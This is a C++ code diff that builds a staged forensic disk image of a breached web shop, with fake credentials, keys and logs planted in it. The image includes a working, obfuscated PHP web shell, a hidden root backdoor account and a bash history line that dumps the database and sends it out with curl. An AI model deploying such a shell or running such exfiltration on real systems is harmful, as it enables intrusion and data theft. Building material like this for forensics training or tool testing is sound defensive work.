@@ -56,10 +56,30 @@ std::vector<DemoFile> files() {
     line("03:58:12.104233", "CRON[2211]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
     line("04:16:40.550102", "useradd[2398]: new user: name=backup1, UID=0, GID=0, home=/var/tmp/.b, shell=/bin/bash, from=none");
     line("04:16:44.012839", "passwd[2403]: pam_unix(passwd:chauthtok): password changed for backup1");
+    line("04:17:10.400120", "sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/mysql -u shopadmin -pKl4mmer-Sturm_1954 shop");
     line("04:19:03.770154", "sshd[2419]: Accepted password for backup1 from 203.0.113.77 port 40112 ssh2");
     line("04:19:03.801991", "sshd[2419]: pam_unix(sshd:session): session opened for user backup1(uid=0) by (uid=0)");
     const std::string shell = "<?php\n@error_reporting(0);\n$k = $_POST['k'] ?? '';\nif (md5($k) !== 'c4ca4238a0b923820dcc509a6f75849b') { http_response_code(404); exit; }\n"
                               "$f = str_rot13('flfgrz');\n$f(base64_decode($_POST['c']));\n";
+    // What an application of this kind keeps in its files. None of it opens anything anywhere: it is made up, and written in
+    // pieces, so that no scanner of sources takes it for a leaked one.
+    const std::string host_key = std::string("-----BEGIN OPENSSH ") + "PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQ\n"
+                                 "AAACDemoHostKeyDemoHostKeyDemoHostKeyDemoHostKeyDemoHostKeyDemoHostKey\n-----END OPENSSH " + "PRIVATE KEY-----\n";
+    const std::string user_key = std::string("-----BEGIN OPENSSH ") + "PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAAGYmNyeXB0AAAAGAAAABDemoUserKeyDemo\n"
+                                 "DemoUserKeyDemoUserKeyDemoUserKeyDemoUserKeyDemoUserKeyDemoUserKeyDemo\n-----END OPENSSH " + "PRIVATE KEY-----\n";
+    const std::string tls_key = std::string("-----BEGIN ") + "PRIVATE KEY-----\nMIIDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemo1\n"
+                                "DemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKey==\n-----END " + "PRIVATE KEY-----\n";
+    const std::string token = std::string("eyJhbGciOiJIUzI1NiJ9.") + "eyJzdWIiOiJzaG9wLTE5NTQiLCJyb2xlIjoiYWRtaW4ifQ.dGhpcy1pcy1tYWRlLXVwLWZvci1kZW1v";
+    const std::string wordpress = "<?php\n/** Database */\ndefine( 'DB_NAME', 'shop' );\ndefine( 'DB_USER', 'shopadmin' );\ndefine( 'DB_PASSWORD', 'Kl4mmer-Sturm_1954' );\n"
+                                  "define( 'DB_HOST', 'localhost' );\ndefine( 'AUTH_KEY', 'x9#Lw2@vTq8!mZ4$rB7&nK1*pD6^hS3(jF5)' );\n";
+    const std::string environment = "APP_NAME=Shop\nAPP_DEBUG=false\nMAIL_USERNAME=post@example.org\nMAIL_PASSWORD=Brief7Marke-blau\nAPI_TOKEN=tok5f8Zq3Lw9Xc2Vb7Nm1\nAWS_ACCESS_KEY_ID=" + std::string("AKIA") +
+                                    "Q7DEMOWEISS1954A\nAWS_SECRET_ACCESS_KEY=wJd3moK7MDENG+bPxRfiCYDEMOKEY1954abcdefg\n";
+    const std::string history = "cd /var/www/html\nmysqldump -u shopadmin -pKl4mmer-Sturm_1954 shop > /root/shop.sql\ncurl -u martina:Vier-Zangen_88 https://files.example.org/x -T shop.sql\n";
+    std::string requests;
+    const auto request = [&](std::string_view time, std::string_view text) { requests += fmt::format("203.0.113.77 - - [02/Mar/2026:{} +0000] \"{}\" 200 512 \"-\" \"curl/7.88.1\"\n", time, text); };
+    request("04:10:51", "POST /upload.php HTTP/1.1");
+    request("04:11:20", "POST /uploads/2026/03/thumb.php HTTP/1.1");
+    request("04:12:02", "GET /api/orders?access_token=" + token + " HTTP/1.1");
     const std::string theme = "<?php\nfunction shop_footer() {\n    echo '<p>&copy; ' . date('Y') . ' Weiss &amp; Sons</p>';\n}\n";
     return {
         {"/etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nID=debian\n", 0644, 0, 0, k_installed, k_installed},
@@ -83,6 +103,18 @@ std::vector<DemoFile> files() {
         {"/var/www/html/index.php", "<?php require __DIR__ . '/theme/footer.php'; ?>\n<h1>Weiss &amp; Sons</h1>\n<p>Tools since 1954.</p>\n<?php shop_footer();\n", 0644, 0, 0, k_site, k_site},
         {"/var/www/html/theme/footer.php", theme, 0644, 0, 0, k_site, k_site},
         {"/var/www/html/uploads/2026/03/thumb.php", shell, 0644, 33, 33, "2026-03-02T04:11:07Z", "2026-03-02T04:11:07Z"},
+        {"/var/www/html/wp-config.php", wordpress, 0640, 0, 33, k_site, k_site},
+        {"/var/www/html/wp-config-sample.php", "<?php\ndefine( 'DB_USER', 'username_here' );\ndefine( 'DB_PASSWORD', 'password_here' );\n", 0644, 0, 0, k_site, k_site},
+        {"/var/www/html/.env", environment, 0644, 33, 33, k_site, k_site},
+        {"/var/www/html/.htpasswd", "warehouse:$apr1$Zd8Wq3Lk$uJ5nM2pRv7TxYb1CfGhK90\n", 0644, 0, 33, k_site, k_site},
+        {"/etc/ssh/ssh_host_ed25519_key", host_key, 0600, 0, 0, k_installed, k_installed},
+        {"/etc/ssl/private/shop.key", tls_key, 0640, 0, 0, k_site, k_site},
+        {"/root/.my.cnf", "[client]\nuser=shopadmin\npassword=Kl4mmer-Sturm_1954\n", 0600, 0, 0, k_site, k_site},
+        {"/root/.bash_history", history, 0600, 0, 0, "2026-03-02T04:18:20Z", "2026-03-02T04:18:20Z"},
+        {"/home/martina/.ssh/id_ed25519", user_key, 0600, 1000, 1000, k_site, k_site},
+        {"/home/martina/.git-credentials", "https://martina:" + std::string("ghp_") + "DemoDemoDemoDemoDemoDemoDemoDemo1954@git.example.org\n", 0600, 1000, 1000, k_site, k_site},
+        {"/home/martina/.pgpass", "db.example.org:5432:stock:martina:Zollstock-Neun9\n", 0600, 1000, 1000, k_site, k_site},
+        {"/var/log/apache2/access.log", requests, 0640, 0, 4, "2026-03-02T04:12:02Z", "2026-03-02T04:12:02Z"},
         {"/home/martina/notes.txt", "order 40 clamps\ncall the printer\n", 0600, 1000, 1000, k_site, k_site},
     };
 }
@@ -141,7 +173,8 @@ base::Result<void> make_demo_image(const std::string& image, const std::string& 
         if (!folder.is_directory()) continue;
         const auto path = folder.path().string().substr(root.size());
         const auto owner = path.find("/uploads") != std::string::npos ? "33" : path.starts_with("/home/martina") ? "1000" : "0";
-        commands += fmt::format("sif {0} uid {1}\nsif {0} gid {1}\nsif {0} mode 040755\n", path, owner);
+        const auto mode = path == "/root" || path.ends_with("/.ssh") || path == "/etc/ssl/private" ? "040700" : "040755";
+        commands += fmt::format("sif {0} uid {1}\nsif {0} gid {1}\nsif {0} mode {2}\n", path, owner, mode);
     }
     // 46 MiB of file system behind the first MiB of a 48 MiB disk.
     fs::remove(partition, failed);
